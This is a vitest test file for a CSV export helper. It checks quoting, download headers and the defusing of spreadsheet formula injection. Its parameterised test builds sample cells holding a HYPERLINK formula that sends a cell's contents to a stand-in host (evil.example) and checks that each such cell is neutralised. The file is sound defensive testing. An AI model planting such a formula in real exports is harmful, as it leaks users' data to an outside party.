import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvFilename, csvResponse, neutraliseCell, toCsv } from "./csv";

describe("toCsv", () => {
  it("quotes commas, quotes and line breaks so the text reads back intact", () => {
    const text = toCsv([{ a: 'say "hi", then\nleave' }], [{ header: "A", value: (r) => r.a }]);
    expect(Papa.parse<string[]>(text).data).toEqual([["A"], ['say "hi", then\nleave']]);
  });
  it("defuses spreadsheet formulas from the public", () => {
    const text = toCsv(
      [{ a: '=HYPERLINK("x")' }, { a: "+1" }, { a: "@SUM(A1)" }],
      [{ header: "A", value: (r) => r.a }],
    );
    const cells = Papa.parse<string[]>(text)
      .data.slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual(['\'=HYPERLINK("x")', "'+1", "'@SUM(A1)"]);
  });
  const starts = {
    "=": "=",
    "+": "+",
    "-": "-",
    "@": "@",
    tab: "\t",
    CR: "\r",
    "＝": "\uFF1D",
    "＋": "\uFF0B",
    "－": "\uFF0D",
    "＠": "\uFF20",
  };
  const tails = { nothing: "", LF: "\n", CR: "\r", "U+2028": "\u2028", "U+2029": "\u2029" };
  for (const [startName, start] of Object.entries(starts)) {
    for (const [tailName, tail] of Object.entries(tails)) {
      it(`neutralises a cell that starts with ${startName}, with ${tailName} after the formula`, () => {
        const value = `${start}HYPERLINK("https://evil.example/?leak="&D3,"Roster help${tail}")${tail}more`;
        const text = toCsv([{ a: value }], [{ header: "A", value: (r) => r.a }]);
        // As a spreadsheet reads the file: the cell's text begins with the quote, so it is never a formula.
        expect(Papa.parse<string[]>(text).data[1]?.[0]).toBe(`'${value}`);
        expect(neutraliseCell(value)).toBe(`'${value}`);
      });
    }
  }
  it("leaves text that only contains those characters later, and numbers, as they are", () => {
    for (const value of ["Lincoln High", "a=b", "O'Brien-Smith", "x@example.org", " =1"]) {
      expect(neutraliseCell(value)).toBe(value);
    }
    expect(neutraliseCell(-12)).toBe(-12);
    expect(toCsv([{ a: -12 }], [{ header: "A", value: (r) => r.a }])).toBe("A\r\n-12");
  });
  it("writes empty cells for missing values", () => {
    expect(toCsv([{ a: null }], [{ header: "A", value: (r) => r.a }])).toBe("A\r\n");
  });
});

describe("download", () => {
  it("is an attachment with a dated name and a byte-order mark", async () => {
    const response = csvResponse("A\r\n1", csvFilename("orders", new Date("2026-11-21T12:00:00Z")));
    expect(response.headers.get("Content-Disposition")).toBe('attachment; filename="orders-2026-11-21.csv"');
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect([...new Uint8Array(await response.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
